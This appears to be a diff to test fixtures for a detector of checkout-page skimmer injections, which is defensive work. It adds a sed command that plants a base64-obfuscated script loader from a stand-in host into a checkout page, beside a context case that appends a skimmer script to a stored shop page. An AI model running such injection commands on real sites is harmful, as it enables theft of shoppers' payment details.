@@ -17,8 +17,14 @@ indicatorTable(commandPageSkimmer, {
     'a page of another storage': script(
       `gsutil cp gs://shop/index.html .\ncat >> index.html <<'J'\n<script>${SKIMMER}</script>\nJ\ngsutil cp index.html gs://shop/index.html`,
     ),
+    'a script in the pages of a volume that hides where it loads from': script(
+      `sed -i '1s|^|<script>var s=document.createElement("script");s.src=atob("Ly9jZG4uZXhhbXBsZS5uZXQvYy5qcw==");document.head.appendChild(s)</script>|' /srv/checkout.html`,
+    ),
   },
   staysSilent: {
+    'a script with its address in the pages of an image': script(
+      `sed -i 's|</head>|<script src="https://stats.example.net/s.js"></script></head>|' /usr/share/nginx/html/index.html`,
+    ),
     'visits that are counted': script(
       released("navigator.sendBeacon('https://stats.example.net/p',JSON.stringify({path:location.pathname}));"),
     ),
